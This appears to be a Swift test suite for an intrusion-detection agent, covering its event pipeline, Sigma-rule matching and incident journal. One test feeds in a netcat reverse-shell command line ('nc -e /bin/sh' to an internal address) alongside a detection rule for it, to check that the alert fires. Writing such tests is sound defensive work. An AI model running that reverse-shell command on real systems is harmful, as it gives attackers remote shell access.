import Capture
import ExecEvents
import Foundation
import Logging
import RuleEngine
import Synchronization
import Testing

@testable import Agent

private let repositoryRoot = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
    .deletingLastPathComponent()

private func shippedRules() throws -> [Rule] {
    let result = RuleLoader.load(paths: [repositoryRoot.appendingPathComponent("rules").path])
    #expect(result.errors.isEmpty)
    return result.rules
}

private func pipeline(_ rules: [Rule], collect: @escaping (IncidentUpdate) -> Void) -> DetectionPipeline {
    DetectionPipeline(
        engine: DetectionEngine(rules: rules, configuration: EngineConfiguration(agentId: "test")),
        hostName: "h",
        graceMilliseconds: 2000,
        deliver: collect
    )
}

@Suite("The capture thread's pipeline")
struct PipelineTests {
    @Test func auditLinesBecomeIncidentsAsReplayWouldMakeThem() throws {
        var updates: [IncidentUpdate] = []
        let p = pipeline(try shippedRules()) { updates.append($0) }
        let log = try String(
            contentsOf: repositoryRoot.appendingPathComponent("Tests/Fixtures/audit/captured-debian12.log"),
            encoding: .utf8
        )
        for line in log.split(separator: "\n") {
            Array(line.utf8).withUnsafeBytes { p.auditLine($0) }
        }
        p.finish()
        #expect(p.counters.inputs.current == log.split(separator: "\n").count)
        #expect(p.counters.events.current == 99)
        #expect(p.counters.failedExecs.current == 15)
        #expect(p.counters.malformedRecords.current == 0)
        let final = Dictionary(updates.map { ($0.incident.incidentId, $0.incident) }, uniquingKeysWith: { $1 })
        #expect(final.count == 7)
        #expect(p.counters.incidentsCreated.current == 7)
        #expect(p.counters.incidentsCreated.current + p.counters.incidentsUpdated.current == updates.count)
        #expect(final.values.allSatisfy { $0.ruleId == "PH_Rule_TH_Linux_23" && $0.hostName == "h" })
    }

    @Test func procExecutionsAreEvaluatedDirectly() throws {
        var updates: [IncidentUpdate] = []
        let p = pipeline(try shippedRules()) { updates.append($0) }
        p.exec(
            ExecEvent(
                eventTime: EventTime(seconds: 100),
                hostName: "h",
                user: "alice",
                procName: "ncat",
                swParam: "-l 1"
            )
        )
        p.exec(
            ExecEvent(eventTime: EventTime(seconds: 101), hostName: "h", user: "alice", procName: "true", swParam: "")
        )
        #expect(updates.map(\.kind) == [.created])
        #expect(updates.first?.incident.attribute("procName") == .string("ncat"))
        #expect(p.counters.events.current == 2)
    }

    @Test func anExecNoRuleCanMatchIsCountedFromItsProbeAlone() throws {
        var updates: [IncidentUpdate] = []
        let p = pipeline(try shippedRules()) { updates.append($0) }
        var completed: [String?] = []
        for (second, name) in [(Int64(100), "true"), (101, "nc")] {
            let probe = ExecEvent(eventTime: EventTime(seconds: second), hostName: "h", procName: name)
            p.exec(probe: ExecProbe(event: probe)) { probe in
                completed.append(probe.event.procName)
                var event = probe.event
                event.user = "alice"
                event.swParam = "-l 1"
                return event
            }
        }
        #expect(completed == ["nc"], "only the exec a rule may match is completed")
        #expect(updates.map(\.kind) == [.created])
        #expect(updates.first?.incident.attribute("swParam") == .string("-l 1"))
        #expect(p.counters.events.current == 2 && p.counters.inputs.current == 2)
    }

    @Test func anExecNoGuardAdmitsIsNotCompleted() throws {
        let shell = SigmaRuleDocument.parse(
            """
            title: Reverse shell
            id: 7f734ed0-0000-0000-0000-000000000001
            logsource: {category: process_creation, product: linux}
            detection:
                sel:
                    CommandLine|contains: ' -e /bin/sh'
                condition: sel
            """,
            file: "shell.yml"
        )
        #expect(shell.errors.isEmpty)
        var updates: [IncidentUpdate] = []
        let p = pipeline(shell.rules) { updates.append($0) }
        var completed: [String] = []
        func exec(_ second: Int64, _ argv: [String]) {
            let area = argv.flatMap { Array($0.utf8) + [UInt8(0)] }
            let probe = ExecEvent(eventTime: EventTime(seconds: second), hostName: "h", procName: argv[0])
            p.exec(probe: ExecProbe(event: probe, argumentArea: area)) { probe in
                completed.append(argv[0])
                var event = probe.event
                event.args = ArgumentVector(argv.map(\.utf8))
                event.user = "alice"
                return event
            }
        }
        exec(100, ["true"])
        exec(101, ["nc", "-e", "/bin/sh", "10.0.0.1"])
        #expect(completed == ["nc"], "the rule's guard is in no other exec's command line")
        #expect(updates.map(\.incident.ruleId) == ["7f734ed0-0000-0000-0000-000000000001"])
        #expect(p.counters.events.current == 2 && p.counters.inputs.current == 2)
        // A rule without a guard may match any exec: every one is completed.
        let root = SigmaRuleDocument.parse(
            """
            title: Root
            id: 7f734ed0-0000-0000-0000-000000000002
            logsource: {category: process_creation, product: linux}
            detection:
                sel:
                    User: root
                condition: sel
            """,
            file: "root.yml"
        )
        p.replaceRules(shell.rules + root.rules)
        exec(102, ["true"])
        #expect(completed == ["nc", "true"])
    }

    @Test func replacedRulesApplyFromTheNextInput() throws {
        var updates: [IncidentUpdate] = []
        let p = pipeline(try shippedRules()) { updates.append($0) }
        let onlyTrue = RuleDocument.parse(
            """
            <Rule id="T1"><Name>true</Name><IncidentDef eventType="T1" severity="3"/>
            <PatternClause window="60"><SubPattern name="F">
            <SingleEvtConstr>procName = "true"</SingleEvtConstr><GroupByAttr>hostName</GroupByAttr>
            <GroupEvtConstr>COUNT(*) &gt;= 1</GroupEvtConstr></SubPattern></PatternClause></Rule>
            """,
            file: "t.xml"
        )
        #expect(onlyTrue.errors.isEmpty)
        p.replaceRules(onlyTrue.rules)
        p.exec(ExecEvent(eventTime: EventTime(seconds: 100), hostName: "h", user: "a", procName: "nc", swParam: ""))
        p.exec(ExecEvent(eventTime: EventTime(seconds: 101), hostName: "h", user: "a", procName: "true", swParam: ""))
        #expect(updates.map(\.incident.ruleId) == ["T1"])
    }
}

/// An in-memory store that can be told to fail.
final class MemoryStore: IncidentStore, ClosableStore, @unchecked Sendable {
    // Guarded by `lock`; the tests read it after the writer finished.
    private let lock = NSLock()
    private var _stored: [IncidentUpdate] = []
    private var failuresLeft: Int

    init(failFirst: Int = 0) { failuresLeft = failFirst }

    var stored: [IncidentUpdate] { lock.withLock { _stored } }

    func store(_ update: IncidentUpdate) async throws -> IncidentUpdate {
        try lock.withLock {
            if failuresLeft > 0 {
                failuresLeft -= 1
                throw CaptureError(operation: "store", errno: 28)  // ENOSPC
            }
            _stored.append(update)
            return update
        }
    }

    func outboxDepth() async throws -> Int { lock.withLock { _stored.count } }
    func deadLetterCount() async throws -> Int { 0 }
    func restorableIncidents() async throws -> [Incident] { [] }
    /// Drops the oldest stored changes beyond `maximumDepth` (the journal's own order is tested
    /// with the journal).
    func trimOutbox(toAtMost maximumDepth: Int) async throws -> Int {
        lock.withLock {
            let excess = max(0, _stored.count - maximumDepth)
            _stored.removeFirst(excess)
            return excess
        }
    }
    func close() async throws {}
}

@Suite("Journal writer")
struct JournalWriterTests {
    /// The creation of incident number `n`.
    static func update(_ n: Int) -> IncidentUpdate {
        IncidentUpdate(
            kind: .created,
            incident: Incident(
                incidentId: IncidentID(ruleId: "R", hostName: "h", groupValues: [("n", .integer(Int64(n)))]),
                ruleId: "R",
                ruleName: "r",
                incidentType: "R",
                severity: 1,
                category: "c",
                tactics: [],
                techniques: [],
                hostName: "h",
                attributes: [],
                count: 1,
                firstSeen: EventTime(seconds: 1),
                lastSeen: EventTime(seconds: 1),
                version: 1,
                agentId: "a",
                triggerEvents: []
            ),
            countIncrement: 1
        )
    }

    @Test func storesEveryChangeInOrderAndRetriesFailures() async {
        let store = MemoryStore(failFirst: 2)
        let writer = JournalWriter(capacity: 100, dropped: {})
        for n in 0..<10 { writer.offer(Self.update(n)) }
        writer.finish()
        await writer.run(store: store, logger: Logger(label: "test"))
        #expect(store.stored.map(\.incident.incidentId) == (0..<10).map { Self.update($0).incident.incidentId })
        #expect(writer.stored.current == 10)
        #expect(writer.storeFailures.current == 2)
        #expect(writer.outboxDepth.current == 10)
    }

    @Test func theOutboxIsKeptWithinItsBoundAndDropsAreCounted() async {
        let store = MemoryStore()
        let writer = JournalWriter(capacity: 100, outboxMaxDepth: 4, dropped: {})
        for n in 0..<10 { writer.offer(Self.update(n)) }
        writer.finish()
        await writer.run(store: store, logger: Logger(label: "test"))
        #expect(writer.stored.current == 10)
        #expect(writer.outboxDepth.current == 4)
        #expect(writer.outboxDropped.current == 6)
        #expect(store.stored.map(\.incident.incidentId) == (6..<10).map { Self.update($0).incident.incidentId })
    }

    @Test func aFullQueueDropsAndCounts() async {
        let drops = Atomic<Int>(0)
        let writer = JournalWriter(capacity: 3, dropped: { drops.count() })
        for n in 0..<5 { writer.offer(Self.update(n)) }
        writer.finish()
        let store = MemoryStore()
        await writer.run(store: store, logger: Logger(label: "test"))
        #expect(drops.current == 2)
        #expect(store.stored.count == 3)
    }
}

/// The audit sources ask the rule index with a probe that has no parent facts (they cost a lookup):
/// a Sigma rule the index files under its parent's program (`ParentImage`) must still be evaluated,
/// on the full event, whose parent comes from the parent's own exec.
@Suite("A ParentImage rule over audit records")
struct ParentImageOverAuditTests {
    static func exec(serial: Int, pid: Int, ppid: Int, exe: String, argv: [String]) -> [String] {
        let stamp = "msg=audit(1700000000.\(100 + serial):\(serial)):"
        let arguments = argv.enumerated().map { "a\($0.offset)=\"\($0.element)\"" }.joined(separator: " ")
        return [
            "type=SYSCALL \(stamp) arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 "
                + "ppid=\(ppid) pid=\(pid) auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 "
                + "tty=(none) ses=3 comm=\"\(argv[0])\" exe=\"\(exe)\" key=\"execwatch\"",
            "type=EXECVE \(stamp) argc=\(argv.count) \(arguments)",
            "type=CWD \(stamp) cwd=\"/\"",
            "type=PATH \(stamp) item=0 name=\"\(exe)\" inode=1 dev=fe:00 mode=0100755 ouid=0 ogid=0 "
                + "rdev=00:00 nametype=NORMAL",
            "type=EOE \(stamp)",
        ]
    }

    @Test func aChildOfBashRaisesTheRuleThatNamesItsParent() throws {
        let text = """
            title: whoami run from bash
            id: 5c0a8a4e-1111-2222-3333-444444444444
            status: test
            logsource:
                category: process_creation
                product: linux
            detection:
                sel:
                    ParentImage|endswith: '/bash'
                    CommandLine|contains: 'whoami'
                condition: sel
            level: low
            """
        let loaded = SigmaRuleDocument.parse(text, file: "whoami.yml")
        #expect(loaded.errors.isEmpty)
        var updates: [IncidentUpdate] = []
        let p = pipeline(loaded.rules) { updates.append($0) }
        let lines =
            Self.exec(serial: 1, pid: 100, ppid: 1, exe: "/usr/bin/bash", argv: ["bash"])
            + Self.exec(serial: 2, pid: 101, ppid: 100, exe: "/usr/bin/whoami", argv: ["whoami"])
            + Self.exec(serial: 3, pid: 102, ppid: 1, exe: "/usr/bin/whoami", argv: ["whoami"])
        for line in lines { Array(line.utf8).withUnsafeBytes { p.auditLine($0) } }
        p.finish()
        #expect(p.counters.events.current == 3)
        #expect(updates.map(\.incident.ruleId) == ["5c0a8a4e-1111-2222-3333-444444444444"])
        #expect(updates.first?.incident.attributes.first { $0.name == "procName" }?.value == .string("whoami"))
    }
}
